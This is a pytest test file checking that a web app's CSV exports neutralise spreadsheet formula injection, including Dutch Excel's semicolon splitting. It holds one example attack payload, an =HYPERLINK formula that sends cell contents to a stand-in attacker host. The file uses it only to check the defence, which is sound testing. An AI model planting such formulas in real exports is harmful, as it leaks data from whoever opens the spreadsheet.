"""CSV downloads: text a user typed never runs as a spreadsheet formula.

Every CSV route of the app is listed in ``CSV_ENDPOINTS``; a new one fails
``test_every_csv_route_is_tested`` until it is added here, with a payload that reaches it.
"""

import csv
import io
import re

import pytest

from audit import store as audit_store
from cases import store as cases_store
from core import csvfile
from tests import url_map
from tests.conftest import LoggedIn
from tests.factories import make_case

FORMULA = '=HYPERLINK("https://aanvaller.example/?d="&A1,"klik")'
CSV_ENDPOINTS = {"patterns.export", "audit.export", "privacy.overview_csv"}


def cells(response):
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    assert response.mimetype == "text/csv"
    return [
        cell for row in csv.reader(io.StringIO(response.get_data(as_text=True))) for cell in row
    ]


def assert_neutralised(found, payload=FORMULA):
    """The payload is there, as text: behind an apostrophe and nowhere bare."""
    assert "'" + payload in found
    assert not any(cell.startswith(csvfile.FORMULA_STARTS) for cell in found if cell != "")


# The writer


@pytest.mark.parametrize(
    "text", [FORMULA, "+31 6 1234", "-2+3", "@SUM(A1)", "\t1+1", "\r1+1", "\uff1d1+1", "-"]
)
def test_a_text_that_starts_a_formula_gets_an_apostrophe(text):
    assert csvfile.neutralise(text) == "'" + text


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("x;=1+1", "x;'=1+1"),
        ("a,@b", "a,'@b"),
        ('a;"=b', "a;\"'=b"),
        ("regel\n-1+1", "regel\n'-1+1"),
        ("=a;+b", "'=a;'+b"),
        ("rood, -3 graden", "rood, -3 graden"),
    ],
)
def test_a_formula_start_after_a_separator_inside_a_cell_gets_an_apostrophe(text, written):
    # Dutch Excel splits a comma file on semicolons and line breaks, quoted or not.
    assert csvfile.neutralise(text) == written


@pytest.mark.parametrize("value", [-3, 2.5, 0, "-3", "+4", "92%", "-1,5", "Sanne", "", None])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert csvfile.neutralise(value) == value


def test_numbers_are_written_as_numbers_and_text_quoted():
    text = csvfile.to_csv([[-3, 2.5, "Sanne, 14", None]], header=["a"])
    assert text == '"a"\r\n-3,2.5,"Sanne, 14",""\r\n'


def test_dutch_excel_variant_has_semicolons_and_a_byte_order_mark():
    text = csvfile.to_csv([["=1+1", 5]], header=["Naam", "Aantal"], dutch_excel=True)
    assert text == '\ufeff"Naam";"Aantal"\r\n"\'=1+1";5\r\n'


# Every CSV route


def test_every_csv_route_is_tested(app):
    routes = {endpoint for endpoint, _method, rule in url_map.rules(app) if ".csv" in rule.rule}
    assert routes == CSV_ENDPOINTS


@pytest.mark.parametrize("table", ["components", "groups"])
def test_patterns_csv_neutralises_a_component_and_a_title(login, db, table):
    case = make_case("formule", title=FORMULA)
    case["solutions"][0]["components"] = [FORMULA]
    cases_store.save_case(db, case)
    lead = login("project_lead")
    found = cells(lead.get(f"/patronen/{table}.csv"))
    if table == "groups":
        # The titles of a group's families are listed in one cell, this one first or not.
        (cell,) = [c for c in found if FORMULA in c]
        assert not cell.startswith(csvfile.FORMULA_STARTS)
    else:
        assert_neutralised(found, FORMULA.lower())  # components are compared lower-cased


def log_formula(db, detail=FORMULA):
    family = cases_store.family_row(db, "test-gezin")
    audit_store.record(
        db, "search", "success", family_id=family["id"], family_code="test-gezin", detail=detail
    )


def test_access_log_csv_neutralises_a_detail(login, db):
    log_formula(db)
    assert_neutralised(cells(login("admin").get("/beheer/toegangslog/export.csv")))


def test_a_familys_own_overview_csv_neutralises_a_detail(login, db):
    log_formula(db, detail="@" + FORMULA[1:])
    found = cells(login("facilitator").get("/gezinnen/test-gezin/inzage.csv"))
    assert_neutralised(found, "@" + FORMULA[1:])


def test_a_cell_cannot_start_a_formula_when_dutch_excel_splits_the_file(app, login):
    # Excel with a Dutch locale splits a comma-separated file on semicolons and line
    # breaks, whatever the quotes say: no piece may start a formula, even behind a quote.
    login("facilitator").get("/gezinnen/test-gezin", headers={"User-Agent": "x;=1+1"})
    admin = LoggedIn(app.test_client(), "admin")
    text = admin.get("/beheer/toegangslog/export.csv").get_data(as_text=True)
    assert "x;'=1+1" in text
    for piece in re.split(r"[;\r\n]", text):
        assert not piece.lstrip('"').startswith(csvfile.FORMULA_STARTS), piece
